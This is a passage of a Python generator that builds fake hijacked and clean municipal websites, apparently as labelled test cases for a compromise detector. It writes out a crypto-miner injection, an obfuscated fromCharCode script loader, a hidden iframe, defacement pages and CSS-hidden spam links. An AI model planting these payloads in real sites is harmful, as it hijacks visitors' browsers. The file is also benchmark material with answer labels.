    return f"""<!DOCTYPE html><html lang="en-GB"><head><meta charset="utf-8"><title>{col.name} | {name}</title></head><body>
<header><a href="/">{name}</a></header><main><h1>{col.name}</h1><ul class="view-content">{lis}</ul>
<nav class="pager"><a href="/{col.slug}?page=1">Next</a></nav></main><footer>&copy; {name} 2026</footer></body></html>"""


def en_article(name: str, t: str, d: dt.date) -> str:
    return (
        f'<!DOCTYPE html><html lang="en-GB"><head><meta charset="utf-8"><title>{t} | {name}</title>'
        f'<meta property="article:published_time" content="{_ymd(d)}T09:00:00+00:00"></head><body>'
        f'<main><h1>{t}</h1><p>Published <time datetime="{_ymd(d)}">{_en_date(d)}</time></p>'
        f"<p>{t}. Further details are available from the council.</p></main></body></html>"
    )


def en_pages(name: str, cols: list[Column], home: str) -> dict[str, str]:
    pages = {"/": home}
    for c in cols:
        pages[f"/{c.slug}"] = en_list_page(name, c)
        for t, d in c.items:
            pages[_en_url(c.slug, d, t)] = en_article(name, t, d)
    return pages


EN_NEWS_POOL = [
    "Council approves budget for 2027 to 2028",
    "Winter gritting routes confirmed",
    "New play area opens at Riverside Park",
    "Christmas and New Year bin collection changes",
    "Consultation opens on town centre parking",
    "Library to host coding clubs for children",
    "Leisure centre refurbishment completed",
    "Councillors back climate action plan update",
    "Road resurfacing on Station Road this week",
    "Free flu jabs available for eligible residents",
    "Community grants scheme now open",
    "Remembrance services across the district",
]
EN_NOTICE_POOL = [
    "Notice of temporary road closure: Mill Lane",
    "Public notice: Licensing Act 2003 application",
    "Notice of election of parish councillors",
    "Statement of accounts 2025/26: notice of conclusion of audit",
    "Traffic Regulation Order: Church Street waiting restrictions",
    "Notice of public inspection of accounts",
]


def en_std_cols(rng: random.Random) -> list[Column]:
    news = rng.sample(EN_NEWS_POOL, 8)
    nd = sorted(rng.sample(range(0, 25), 8))
    notes = rng.sample(EN_NOTICE_POOL, 5)
    cd = sorted(rng.sample(range(3, 100), 5))
    return [
        Column("Latest news", "news", "news", list(zip(news, [ago(d) for d in nd], strict=True))),
        Column(
            "Public notices",
            "public-notices",
            "notice",
            list(zip(notes, [ago(d) for d in cd], strict=True)),
        ),
    ]


def _hijacked(
    *,
    must: tuple[str, ...] = (),
    must_any: tuple[str, ...] = HIJACK_CODES,
    note: str = "",
    home_status: str | None = None,
    home_must_any: tuple[str, ...] | None = None,
    must_not: tuple[str, ...] = ZOMBIE_CODES,
) -> Truth:
    return Truth(
        "hijacked",
        must=must,
        must_any=must_any,
        must_not=must_not,
        note=note,
        home_status=home_status,
        home_must_any=home_must_any,
    )


def _clean(cols: list[Column], note: str = "") -> Truth:
    newest = max(d for c in cols for _, d in c.items)
    return Truth("healthy", must_not=NOT_HIJACKED, columns=cols, page_date=newest, note=note)


# --------------------------------------------------------------------------------------
# Defacements: the index page replaced by the defacer's page
# --------------------------------------------------------------------------------------


def d01_deface_en() -> BlindSite:
    home = """<html>
<head>
<title>Hacked By Shadow Ghost Team</title>
<meta charset="UTF-8">
<meta name="description" content="Hacked By Shadow Ghost Team">
<meta property="og:image" content="https://i.imgur.com/Gh0sT7x.gif">
<link href="https://fonts.googleapis.com/css?family=Share+Tech+Mono" rel="stylesheet">
<style>
body{background-color:#000;color:#fff;font-family:'Share Tech Mono',monospace;text-align:center;margin:0}
h1{color:#ff0000;font-size:52px;text-shadow:0 0 10px #f00,0 0 20px #f00;margin-top:40px}
.msg{font-size:18px;width:70%;margin:0 auto;color:#ddd}
.greetz{color:#00ff00;font-size:15px}
</style>
</head>
<body oncontextmenu="return false">
<center>
<img src="https://i.imgur.com/Gh0sT7x.gif" width="320" alt="">
<h1>Hacked By Shadow Ghost Team</h1>
<img src="https://upload.wikimedia.org/wikipedia/commons/thumb/flag.svg/320px-flag.svg.png" width="180" alt="flag">
<div class="msg">
<p>Your security is low. Your website has been defaced.</p>
<p>To the government: you cannot silence the people. We will not stop until you listen to the voice of those you ignore.
We are not here to destroy your data, we are here to show you how weak your system is. Patch your server, admin!</p>
<p>We are Anonymous. We are Legion. We do not forgive. We do not forget. Expect us.</p>
</div>
<p class="greetz">Greetz: ./Mr.Gh0st - D4rkS0ul - Z3r0Byte - CyberFox - xNot_Found - All Members Shadow Ghost Team</p>
<p><font color="yellow">Contact: shadowghost[at]protonmail.com | t.me/shadowghostteam</font></p>
<marquee behavior="alternate" scrollamount="8"><font color="red" size="5">#OpJustice #FreePalestine #ShadowGhostTeam</font></marquee>
<audio autoplay loop><source src="https://files.catbox.moe/8k2x1q.mp3" type="audio/mpeg"></audio>
</center>
</body>
</html>
"""
    return BlindSite(
        "d01_deface_en",
        "www.fengyang-demo.gov.cn",
        "凤阳镇人民政府",
        {"/": home},
        _hijacked(
            note="the index page replaced by an English defacement: 'Hacked By … Team', a message "
            "to the government, greetz, a flag; hijacked at both depths"
        ),
        "defacement",
    )


def d02_deface_id() -> BlindSite:
    home = """<!DOCTYPE html>
<html>
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Hacked by ./Garuda Cyber Army</title>
<meta name="description" content="Website anda telah kami retas - Garuda Cyber Army">
<link rel="icon" href="https://i.ibb.co/Zx9yQ2c/garuda.png">
<style>
html,body{height:100%;margin:0;background:#000 url(https://i.ibb.co/4Wm1Kq0/bg-matrix.gif);color:#fff;font-family:Courier New,monospace}
.wrap{text-align:center;padding-top:6%}
.t{font-size:46px;color:#e70011;text-shadow:2px 2px 8px #fff}
.s{color:#ccc;font-size:17px;line-height:1.7}
</style>
</head>
<body>
<div class="wrap">
<img src="https://i.ibb.co/Zx9yQ2c/garuda.png" width="220" alt="Garuda">
<div class="t">Hacked by ./Garuda Cyber Army</div>
<img src="https://i.ibb.co/3m2QvXb/merah-putih.gif" width="200" alt="Merah Putih">
<div class="s">
<p>Website anda telah kami retas!</p>
<p>Keamanan website anda sangat lemah, segera perbaiki sistem anda sebelum orang lain yang merusaknya.</p>
<p>Kami bukan penjahat, kami hanya ingin menyampaikan pesan kepada pemerintah: dengarkan suara rakyat!</p>
<p>Jangan salahkan kami, salahkan admin yang malas update.</p>
<p>Salam dari kami - Indonesian Hacker</p>
<p style="color:#0f0">Thanks to: Mr.B4yu - ./Cyb3rSh4d0w - XxNoName404xX - JawaBarat Hacker - Semua member Garuda Cyber Army</p>
<p style="color:#ff0">Kontak: garudacyberarmy@gmail.com</p>
</div>
<iframe width="1" height="1" src="https://www.youtube.com/embed/q3xN2w7Q0aA?autoplay=1&amp;loop=1" frameborder="0" allow="autoplay"></iframe>
</div>
</body>
</html>
"""
    return BlindSite(
        "d02_deface_id",
        "sukamaju-demo.desa.id",
        "Pemerintah Desa Sukamaju",
        {"/": home},
        _hijacked(
            note="an Indonesian defacement page (Hacked by, Website anda telah kami retas, "
            "Salam dari kami, thanks to), a flag image"
        ),
        "defacement",
    )


def d03_deface_tr() -> BlindSite:
    home = """<html>
<head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<title>Hacked By Ayyıldız Tim</title>
<meta name="keywords" content="Ayyıldız Tim, Türk Hacker, Hacked">
</head>
<body bgcolor="#000000" text="#FFFFFF">
<center>
<br><br>
<img src="https://i.hizliresim.com/turk-bayragi.gif" width="300" height="200" alt="Türk Bayrağı">
<br><br>
<font face="Verdana" size="7" color="#FF0000"><b>Hacked By Ayyıldız Tim</b></font>
<br><br>
<font face="Verdana" size="4" color="#FFFFFF">
Bu site Türk Hackerlar tarafından hacklenmiştir!<br>
Sistem yöneticisi: güvenlik açığınızı kapatın. Sitenize zarar verilmedi.<br>
Hükümete mesajımız: Türk milletinin sesini duyun!<br>
Ne Mutlu Türküm Diyene!
</font>
<br><br>
<font face="Verdana" size="3" color="#00FF00">
Turkish Hackers | Ayyıldız Tim | Sessiz Ordu | Akıncılar
</font>
<br><br>
<font face="Verdana" size="2" color="#999999">İletişim: ayyildiztim@protonmail.com</font>
<bgsound src="https://www.example-mp3.net/mehter.mp3" loop="infinite">
</center>
</body>
</html>
"""
    return BlindSite(
        "d03_deface_tr",
        "www.huaxi-demo.gov.cn",
        "华溪镇人民政府",
        {"/": home},
        _hijacked(note="a Turkish defacement (Hacked By Ayyıldız Tim, Bu site … hacklenmiştir)"),
        "defacement",
    )


def d04_deface_zh() -> BlindSite:
    home = """<!DOCTYPE html>
<html>
<head>
<meta charset="gb2312">
<title>此站已被黑 by 暗影安全团队</title>
<style>
body{background:#000;color:#0f0;font-family:"宋体";text-align:center}
h1{color:red;font-size:40px;margin-top:60px}
p{font-size:18px;line-height:2}
</style>
</head>
<body>
<h1>此站已被黑！</h1>
<img src="/uploadfile/2026/1119/hk.jpg" width="360" alt="">
<p>您的网站已被暗影安全团队入侵</p>
<p>管理员你好，你的网站存在严重的上传漏洞和SQL注入漏洞，请尽快修补！</p>
<p>本次入侵仅作安全测试，未删除任何数据，首页已备份为 index.bak</p>
<p>致政府：请重视网络安全，不要拿纳税人的钱养一个千疮百孔的网站。</p>
<p style="color:#ff0">Hacked by 暗影安全团队 | 成员：夜枭、零度、孤狼、Cr4zy</p>
<p style="color:#999">联系QQ：1234567890　官方群：98765432</p>
<embed src="/uploadfile/2026/1119/bgm.mp3" autostart="true" loop="true" hidden="true">
</body>
</html>
"""
    return BlindSite(
        "d04_deface_zh",
        "www.shangtang-demo.gov.cn",
        "上塘乡人民政府",
        {"/": home},
        _hijacked(note="a Chinese defacement (此站已被黑, 您的网站已被…入侵, 漏洞, Hacked by)"),
        "defacement",
    )


def d05_deface_kept_title() -> BlindSite:
    name = "青松镇人民政府"
    home = f"""<!DOCTYPE html>
<html lang="zh-CN">
<head>
<meta charset="utf-8">
<title>{name}</title>
<meta name="keywords" content="{name},青松镇,政务公开">
<meta name="description" content="{name}门户网站">
<link rel="stylesheet" href="/css/common.css">
</head>
<body style="background:#111;color:#eee;text-align:center;font-family:Tahoma">
<div style="margin-top:120px">
<h1 style="color:#e00">Hacked By Mr.X0rV1rus</h1>
<h2>Your Security Get Down !!!</h2>
<p>Sorry Admin, your site is hacked. Just patch your system.</p>
<p>We Are: Moroccan Ghosts - Mr.X0rV1rus - Sh4d0w_M4 - all Muslim hackers</p>
<img src="https://i.postimg.cc/8CqZ0x1D/flag.png" width="250" alt="">
</div>
</body>
</html>
"""
    return BlindSite(
        "d05_deface_kept_title",
        "www.qingsong-demo.gov.cn",
        name,
        {"/": home},
        _hijacked(
            note="the body replaced by a defacement while the site's own <title>, keywords and "
            "description stay: hijacked by the body's 'Hacked By', 'your site is hacked'"
        ),
        "defacement",
    )


# --------------------------------------------------------------------------------------
# Script injections
# --------------------------------------------------------------------------------------


def s06_miner() -> BlindSite:
    name = "龙湖区农业农村局"
    cols = zh_std_cols(random.Random(706))
    miner = (
        '<script src="https://www.hostingcloud.racing/Zmn3.js"></script>\n'
        "<script>\n    var _client = new Client.Anonymous('8f2e4d1c9b7a6e5d4c3b2a1f0e9d8c7b6a5f4e3d2c1b0a9f8e7d6c5b4a3f2e1d', {\n"
        "        throttle: 0, c: 'w', ads: 0\n    });\n    _client.start();\n"
        '    _client.addMiningNotification("Top", "This site is running JavaScript miner from coinimp.com", "#cccccc", 40, "#3d3d3d");\n'
        "</script>"
    )
    home = zh_portal(name, cols, body_end=miner)
    return BlindSite(
        "s06_miner",
        "nyncj.longhu-demo.gov.cn",
        name,
        zh_pages(name, cols, home),
        _hijacked(
            must_any=("hidden_links", "spam_content"),
            note="CoinIMP's loader (hostingcloud.racing) and its start-up code "
            "(new Client.Anonymous(...).start()) at the end of an otherwise intact page: "
            "visible in the HTML, a crypto-miner injection",
        ),
        "script",
    )


def s07_cdn_script() -> BlindSite:
    name = "Ashby Vale District Council"
    cols = en_std_cols(random.Random(707))
    inj = '<script type="text/javascript" src="https://cdn.jsdelivr-static.example/npm/jquery@3.6.4/dist/jquery.min.js"></script>'
    home = en_portal(name, cols, head_extra=inj)
    truth = _clean(
        cols,
        note="LIMIT (what a crawler can see): the only change is a <script src> on an unknown CDN "
        "that serves a redirect; in the HTML it is a script tag like any library's. A crawler that runs no "
        "script and fetches no script body cannot tell; no hijack may be claimed from it",
    )
    truth.must_not = NOT_HIJACKED
    return BlindSite(
        "s07_cdn_script",
        "www.ashbyvale-demo.gov.uk",
        name,
        en_pages(name, cols, home),
        truth,
        "script",
    )


def s08_charcode_loader() -> BlindSite:
    name = "Ferndale Township"
    cols = en_std_cols(random.Random(708))
    url = "https://trend.stablelightway.example/scripts/sl.js?v=7"
    codes = ",".join(str(ord(c)) for c in url)
    inj = (
        "<script type=\"text/javascript\">var _0x5f2a=document.createElement('script');"
        f"_0x5f2a.src=String.fromCharCode({codes});"
        "_0x5f2a.async=true;document.getElementsByTagName('head')[0].appendChild(_0x5f2a);</script>"
    )
    home = en_portal(name, cols, body_end=inj)
    return BlindSite(
        "s08_charcode_loader",
        "www.ferndale-demo.gov",
        name,
        en_pages(name, cols, home),
        _hijacked(
            must=("hidden_links",),
            note="a script whose URL on another domain is hidden as "
            "String.fromCharCode codes and appended by createElement: an obfuscated loader, "
            "the Balada-style injection; no site builds its own script URLs that way",
        ),
        "script",
    )


def s09_iframe_1x1() -> BlindSite:
    name = "南溪县人力资源和社会保障局"
    cols = zh_std_cols(random.Random(709))
    inj = '<iframe src="http://www.js8866-vip.example/index.html" width="1" height="1" frameborder="0" scrolling="no"></iframe>'
    home = zh_portal(name, cols, body_top=inj)
    return BlindSite(
        "s09_iframe_1x1",
        "rsj.nanxi-demo.gov.cn",
        name,
        zh_pages(name, cols, home),
        _hijacked(
            must=("hidden_links",),
            note="a 1x1 iframe to a gambling host (js8866: 金沙) right after <body>: classic 挂马",
        ),
        "iframe",
    )


# --------------------------------------------------------------------------------------
# Hidden spam, one technique per site
# --------------------------------------------------------------------------------------

CASINO_LINKS = [
    ("澳门新葡京娱乐城", "https://www.xpj8866.example/"),
    ("威尼斯人官网", "https://www.vns3379.example/"),
    ("真人百家乐", "https://www.bjl-888.example/"),
    ("北京赛车pk10", "https://www.pk10jh.example/"),
    ("时时彩平台", "https://www.ssc-plan.example/"),
    ("六合彩开奖结果", "https://www.lhc-kj.example/"),
    ("皇冠体育投注", "https://www.hg0088-vip.example/"),
    ("太阳城娱乐", "https://www.tyc-88.example/"),
]


def _links(pairs: list[tuple[str, str]], sep: str = " ") -> str:
    return sep.join(f'<a href="{u}" target="_blank">{t}</a>' for t, u in pairs)


def h10_font0() -> BlindSite:
    name = "东岗区住房和城乡建设局"
    cols = zh_std_cols(random.Random(710))
    block = f'<div style="FONT-SIZE: 0px; LINE-HEIGHT: 0px">{_links(CASINO_LINKS[:6])}</div>'
    home = zh_portal(name, cols, footer_extra=block)
    return BlindSite(
        "h10_font0",
        "zjj.donggang-demo.gov.cn",
        name,
        zh_pages(name, cols, home),
        _hijacked(
            must=("hidden_links",), note="gambling links in a FONT-SIZE: 0px block in the footer"
        ),
        "hidden",
    )


def h11_same_color() -> BlindSite:
    name = "西林县教育局"
    cols = zh_std_cols(random.Random(711))
    block = f'<p class="kw" style="color:#f2f2f2;font-size:12px">{_links(CASINO_LINKS[2:8])}</p>'
    css = ".footer .kw a{color:#F2F2F2}"
    home = zh_portal(name, cols, footer_extra=block, css_extra=css)
    return BlindSite(
        "h11_same_color",
        "jyj.xilin-demo.gov.cn",
        name,
        zh_pages(name, cols, home),
        _hijacked(
            must=("hidden_links",),
            note="gambling links coloured #f2f2f2 in a footer whose "
            "stylesheet background is #F2F2F2 (the colour is the footer's, not the body's)",
        ),
        "hidden",
    )


def h12_text_indent() -> BlindSite:
    name = "Kelso Borough Council"
    cols = en_std_cols(random.Random(712))
    spam = [
        ("online casino", "https://www.casino-bonus-uk.example/"),
        ("best slots sites", "https://slots-uk.example/"),
        ("no deposit bonus", "https://nodeposit-casino.example/"),
        ("buy viagra online", "https://rx-pharma.example/viagra"),
        ("cialis without prescription", "https://rx-pharma.example/cialis"),
        ("payday loans same day", "https://quickloan24.example/"),
    ]
    block = f'<p style="text-indent:-9999px;margin:0">{_links(spam, " | ")}</p>'
    home = en_portal(name, cols, footer_extra=block)
    return BlindSite(
        "h12_text_indent",
        "www.kelso-demo.gov.uk",
        name,
        en_pages(name, cols, home),
        _hijacked(
            must=("hidden_links",),
            note="casino, pharma and loan links in a <p> pushed off screen by text-indent:-9999px",
        ),
        "hidden",
    )


def h13_height0() -> BlindSite:
    name = "北塘镇人民政府"
    cols = zh_std_cols(random.Random(713))
    block = f'<div style="height: 0px; overflow: hidden;">{_links(CASINO_LINKS, "&nbsp;")}</div>'
    home = zh_portal(name, cols, mid_extra=block)
    return BlindSite(
        "h13_height0",
        "www.beitang-demo.gov.cn",
        name,
        zh_pages(name, cols, home),
        _hijacked(
            must=("hidden_links",),
            note="gambling links in a height:0;overflow:hidden block "
            "between the columns and the service grid",
        ),
        "hidden",
    )


def h14_clip_text() -> BlindSite:
    name = "南坪县卫生健康局"
    cols = zh_std_cols(random.Random(714))
    text = (
        "澳门新葡京娱乐城官网唯一指定网站，真人百家乐、龙虎斗、牛牛、炸金花在线玩，新用户注册即送88元彩金，"
        "北京赛车pk10计划、重庆时时彩、幸运飞艇、六合彩开奖直播，网上赌场首存优惠100%，24小时提款秒到账，"
        "皇冠体育在线投注，足球滚球、篮球让分盘，百家乐必胜技巧，网投平台排行榜前十名。"
    )
    block = f'<div style="position:absolute;clip:rect(0 0 0 0);width:1px;height:1px;overflow:hidden">{text}</div>'
    home = zh_portal(name, cols, body_top=block)
    return BlindSite(
        "h14_clip_text",
        "wjj.nanping-demo.gov.cn",
        name,
        zh_pages(name, cols, home),
        _hijacked(
            must=("spam_content",),
            note="gambling text (no links) in a clip:rect(0 0 0 0) "
            "block: hidden text spam for search engines",
        ),
        "hidden",
    )


def h15_opacity() -> BlindSite:
    name = "Port Allen Water District"
    cols = en_std_cols(random.Random(715))
    spam = [
        ("casino online real money", "https://realmoney-casino.example/"),
        ("slot gacor hari ini", "https://slotgacor-maxwin.example/"),
        ("judi bola online", "https://judibola88.example/"),
        ("sbobet login", "https://sbobet-link.example/"),
        ("togel hongkong", "https://togel-hk.example/"),
    ]
    css = ".ftr-note{opacity:0;position:absolute;z-index:-1}"
    block = f'<div class="ftr-note">{_links(spam)}</div>'
    home = en_portal(name, cols, footer_extra=block, css_extra=css)
    return BlindSite(
        "h15_opacity",
        "www.portallenwater-demo.org",
        name,
        en_pages(name, cols, home),
        _hijacked(
            must=("hidden_links",), note="casino/judi links in a class set to opacity:0 in <style>"
        ),
        "hidden",
    )


def h16_marquee1() -> BlindSite:
    name = "石门县市场监督管理局"
    cols = zh_std_cols(random.Random(716))
    block = (
        f'<marquee height="1" width="1" scrollamount="2" direction="left">{_links(CASINO_LINKS[:5])}</marquee>'
        f'<marquee style="height:1px;width:1px;overflow:hidden">{_links(CASINO_LINKS[5:])}</marquee>'
    )
    home = zh_portal(name, cols, footer_extra=block)
    return BlindSite(
        "h16_marquee1",
        "scjg.shimen-demo.gov.cn",
        name,
        zh_pages(name, cols, home),
        _hijacked(
            must=("hidden_links",),
            note="gambling links in <marquee height=1 width=1> and a "
            "marquee of style height:1px: one pixel shows nothing",
        ),
        "hidden",
    )


# --------------------------------------------------------------------------------------
# Visible spam
# --------------------------------------------------------------------------------------


def v17_seo_news() -> BlindSite:
    name = "河口县人民政府"
    cols = zh_std_cols(random.Random(717))
    spam = [
        ("澳门威尼斯人娱乐城官方网站-首页", ago(0)),
        ("北京赛车pk10时时彩计划在线网页版", ago(0)),
        ("代开发票联系电话-代开各地增值税发票", ago(1)),
        ("办证刻章-办理毕业证身份证驾驶证", ago(1)),
    ]
    cols[0].items = spam + cols[0].items
    home = zh_portal(name, cols)
    return BlindSite(
        "v17_seo_news",
        "www.hekou-demo.gov.cn",
        name,
        zh_pages(name, cols, home),
        _hijacked(
            must=("spam_content",),
            note="the news list's four newest items are SEO spam "
            "articles (娱乐城, 时时彩, 代开发票, 办证) published through the hacked CMS among "
            "real items; on the homepage at both depths",
        ),
        "visible",
    )


def v18_invoice_gun() -> BlindSite:
    name = "长乐区自然资源局"
    cols = zh_std_cols(random.Random(718))
    spam = [
        ("代开发票", "http://www.dkfp-168.example/"),
        ("代开增值税发票", "http://www.dkfp-168.example/zzs/"),
        ("办证刻章", "http://www.bzkz888.example/"),
        ("办理毕业证", "http://www.bzkz888.example/byz/"),
        ("假证办理", "http://www.jzbl-99.example/"),
        ("出售仿真枪", "http://www.qzsc-shop.example/"),
        ("气枪专卖网", "http://www.qiqiang-zm.example/"),
        ("猎枪出售", "http://www.qzsc-shop.example/lq/"),
        ("手枪货到付款", "http://www.qzsc-shop.example/sq/"),
        ("迷药听话水", "http://www.myshop-tx.example/"),
    ]
    box = (
        '<div class="yqlj w1200 clearfix"><h4>友情链接</h4>'
        '<a href="https://www.gov.cn/" target="_blank">中国政府网</a> '
        '<a href="https://www.mnr.gov.cn/" target="_blank">自然资源部</a> '
        + _links(spam)
        + "</div>"
    )
    home = zh_portal(name, cols, mid_extra=box)
    return BlindSite(
        "v18_invoice_gun",
        "zrzyj.changle-demo.gov.cn",
        name,
        zh_pages(name, cols, home),
        _hijacked(
            must=("spam_content",),
            note="代开发票, 办证, 枪支 and 迷药 links to other sites "
            "written into the 友情链接 box (no gambling words): counterfeit-document and "
            "weapons spam",
        ),
        "visible",
    )


def v19_subdir() -> BlindSite:
    name = "溪口镇人民政府"
    cols = zh_std_cols(random.Random(719))
    mild = [
        ("体育赛事直播信息汇总", ago(0)),
        ("手机客户端下载安装指南", ago(1)),
        ("线上平台注册流程说明", ago(2)),
        ("2026年热门游戏推荐", ago(3)),
        ("会员积分兑换活动规则", ago(4)),
    ]
    parasite = Column("便民资讯", "news", "news", mild)
    cols.append(parasite)
    home = zh_portal(name, cols)
    pages = zh_pages(name, cols, home)
    spam_titles = [
        "2026世界杯买球平台推荐-正规买球app",
        "澳门新葡京娱乐城官网-真人百家乐",
        "北京赛车pk10计划-时时彩人工计划",
        "十大正规网投平台排行榜",
        "六合彩开奖结果直播-香港六合彩",
        "百家乐必胜技巧-百家乐投注技巧",
        "皇冠体育app下载-皇冠足球投注",
        "网上赌场-真人在线娱乐城",
        "代开发票联系电话-全国代开发票",
        "太阳城娱乐官网-注册送彩金",
        "开元棋牌-真人棋牌游戏",
        "威尼斯人娱乐场官网",
    ]
    lis = "\n".join(
        f'<li><a href="/news/{d:%Y%m%d}{i:04d}.html">{t}</a><span>{_ymd(d)}</span></li>'
        for i, (t, d) in enumerate(zip(spam_titles, [ago(i // 3) for i in range(12)], strict=True))
    )
    pages[
        "/news/index.html"
    ] = f"""<!DOCTYPE html><html><head><meta charset="utf-8"><title>澳门新葡京娱乐城_真人百家乐_北京赛车pk10_{name}</title>
<meta name="keywords" content="澳门新葡京,百家乐,北京赛车,时时彩,六合彩,网投">
<meta name="description" content="澳门新葡京娱乐城官网提供真人百家乐、北京赛车pk10、时时彩、六合彩在线投注，注册送彩金。"></head><body>
<div class="top"><a href="/">{name}</a></div><h1>资讯中心</h1><ul class="list">
{lis}
</ul><div class="foot">Copyright © 2026 {name}</div></body></html>"""
    for i, (t, d) in enumerate(mild):
        pages[_art("news", d, i)] = (
            f'<html><head><meta charset="utf-8"><title>{t}-澳门新葡京娱乐城</title></head><body>'
            f"<h1>{t}</h1><p>澳门新葡京娱乐城官网，真人百家乐、北京赛车pk10、时时彩在线投注，注册即送88元彩金。"
            f'<a href="https://www.xpj8866.example/">立即注册</a></p></body></html>'
        )
    return BlindSite(
        "v19_subdir",
        "www.xikou-demo.gov.cn",
        name,
        pages,
        _hijacked(
            must=("spam_content",),
            home_status="healthy",
            home_must_any=(),
            note="a hacked subdirectory /news/: the homepage's 便民资讯 box (harmless titles) "
            "links items and its more link into /news/, whose list page and articles are "
            "gambling SEO pages. Full depth reads the column page: hijacked. The sweep reads "
            "the homepage only, which shows nothing (README: spam on column pages only is not "
            "seen at depth home)",
        ),
        "subdir",
    )


def v20_korean() -> BlindSite:
    name = "Glenwood Springs Recreation District"
    cols = en_std_cols(random.Random(720))
    spam = [
        ("토토사이트 추천", "https://toto-safe24.example/"),
        ("먹튀검증 안전놀이터", "https://mtpolice-kr.example/"),
        ("온라인카지노 바카라사이트", "https://casino-kr77.example/"),
        ("슬롯사이트 순위", "https://slot-kr.example/"),
        ("파워볼 분석", "https://powerball-kr.example/"),
        ("출장안마 24시", "https://anma-24.example/"),
        ("오피사이트 주소", "https://opss-kr.example/"),
        ("성인용품 쇼핑몰", "https://adult-kr.example/"),
    ]
    box = (
        '<section class="partners"><h2>Community partners</h2><ul>'
        '<li><a href="https://www.colorado.gov/">Colorado.gov</a></li><li><a href="https://cpw.state.co.us/">Colorado Parks and Wildlife</a></li>'
        + "".join(f'<li><a href="{u}">{t}</a></li>' for t, u in spam)
        + "</ul></section>"
    )
    home = en_portal(name, cols, mid_extra=box)
    return BlindSite(
        "v20_korean",
        "www.glenwoodrec-demo.org",
        name,
        en_pages(name, cols, home),
        _hijacked(
            must=("spam_content",),
            note="Korean toto/casino (토토사이트, 먹튀검증, 바카라, 슬롯) and "
            "adult (출장안마, 오피) links appended to a partners list of an English site",
        ),
        "visible",
    )


def v21_japanese() -> BlindSite:
    name = "Town of Milbury"
    cols = en_std_cols(random.Random(721))
    spam = [
        ("オンラインカジノ 入金不要ボーナス", "https://jp-casino-bonus.example/"),
        ("ライブカジノ おすすめ", "https://live-casino-jp.example/"),
        ("パチンコ 攻略 必勝法", "https://pachinko-hissho.example/"),
        ("出会い系 人妻 即会い", "https://deai-hitozuma.example/"),
        ("無修正 エロ動画 無料", "https://muryou-ero.example/"),
        ("アダルトグッズ 通販", "https://adult-goods.example/"),
        ("ブックメーカー 登録", "https://bookmaker-jp.example/"),
    ]
    posts = "".join(f'<li><a href="{u}">{t}</a></li>' for t, u in spam)
    box = f'<aside class="recent-posts"><h2>Recent posts</h2><ul>{posts}</ul></aside>'
    home = en_portal(name, cols, mid_extra=box)
    return BlindSite(
        "v21_japanese",
        "www.milbury-demo.gov",
        name,
        en_pages(name, cols, home),
        _hijacked(
            must=("spam_content",),
            note="Japanese casino (オンラインカジノ, パチンコ) and adult "
            "(出会い系, 無修正, エロ動画) links in a 'Recent posts' box of an English town site",
        ),
        "visible",
    )


# --------------------------------------------------------------------------------------
# Clean traps
# --------------------------------------------------------------------------------------


def c01_police() -> BlindSite:
    name = "青田县公安局"
    news = [
        ("我局开展“扫黄打非”进基层集中宣传活动", ago(0)),
        ("严厉打击电信网络诈骗犯罪 我局破获一起特大刷单返利诈骗案", ago(1)),
        ("警方捣毁一个跨境网络赌博团伙 涉案资金逾亿元", ago(2)),
        ("我局开展涉枪涉爆隐患集中排查整治", ago(4)),
        ("破获一起制售假发票案 抓获犯罪嫌疑人3名", ago(5)),
        ("我局侦破一起伪造国家机关证件案", ago(7)),
        ("“净网2026”专项行动：关停涉赌涉诈网站32个", ago(9)),
        ("县公安局召开冬季治安防控工作部署会", ago(11)),
        ("民警深入校园开展防范电信诈骗宣传", ago(13)),
    ]
    fraud = [
        ("警惕！“刷单返利”类诈骗高发", ago(1)),
        ("冒充客服退款诈骗的五个特征", ago(6)),
        ("网络赌博“稳赚不赔”是骗局", ago(12)),
        ("“代开发票”“办证”小广告背后的骗局", ago(20)),
        ("收到“中奖”短信怎么办？", ago(33)),
        ("国家反诈中心APP安装指南", ago(40)),
    ]
    notices = [
        ("关于收缴非法枪支弹药和管制器具的通告", ago(3)),
        ("关于开展“扫黄打非”有奖举报的公告", ago(25)),
        ("关于冬季烟花爆竹安全管理的通告", ago(48)),
        ("县公安局2026年度警务辅助人员招聘公告", ago(60)),
        ("关于机动车驾驶证业务办理时间调整的通知", ago(95)),
    ]
    cols = [
        Column("警务动态", "jwdt", "news", news),
        Column("反诈宣传", "fzxc", "other", fraud),
        Column("通知公告", "tzgg", "notice", notices),
    ]
    home = zh_portal(name, cols, title=f"{name}-平安青田")
    return BlindSite(
        "c01_police",
        "gaj.qingtian-demo.gov.cn",
        name,
        zh_pages(name, cols, home),
        _clean(
            cols,
            note="a police bureau's campaign news: 扫黄打非, 电信诈骗, 网络赌博, 涉枪, 假发票, "
            "办证 named as crimes it fights",
        ),
        "clean",
    )


def c02_tax() -> BlindSite:
    name = "国家税务总局青溪县税务局"
    news = [
        ("县税务局召开2026年第四季度税收工作推进会", ago(1)),
        ("“便民办税春风行动”进企业 送政策上门", ago(3)),
        ("县税务局开展全面数字化电子发票推广培训", ago(5)),
        ("县税务局联合开展虚开发票专项整治", ago(8)),
        ("县税务局召开纳税人座谈会听取意见建议", ago(12)),
        ("个人所得税汇算清缴服务进社区", ago(16)),
    ]
    guide = [
        ("发票查验：全国增值税发票查验平台使用说明", ago(2)),
        ("代开发票办理指南（自然人代开增值税发票）", ago(4)),
        ("纳税人申请代开增值税专用发票需提交的资料", ago(9)),
        ("电子税务局代开发票操作流程", ago(15)),
        ("发票领用、发票验旧和发票缴销办理指南", ago(22)),
        ("数电发票开具常见问题解答", ago(30)),
    ]
    policy = [
        ("国家税务总局关于增值税发票管理等有关事项的公告", ago(10)),
        ("关于进一步优化增值税发票代开服务的通知", ago(28)),
        ("国家税务总局关于推广应用全面数字化电子发票的公告", ago(70)),
        ("关于小规模纳税人减免增值税政策的公告", ago(120)),
    ]
    cols = [
        Column("税务要闻", "swyw", "news", news),
        Column("办税指南", "bszn", "other", guide),
        Column("税收政策", "sszc", "policy", policy),
    ]
    services = (
        '<div class="bsfw w1200 clearfix"><h4>办税服务</h4><a href="https://inv-veri.chinatax.gov.cn/" target="_blank">发票查验</a> '
        '<a href="/bsfw/dkfp/">代开发票</a> <a href="/bsfw/fply/">发票领用</a> <a href="https://etax.fujian.chinatax.gov.cn/" target="_blank">电子税务局</a> '
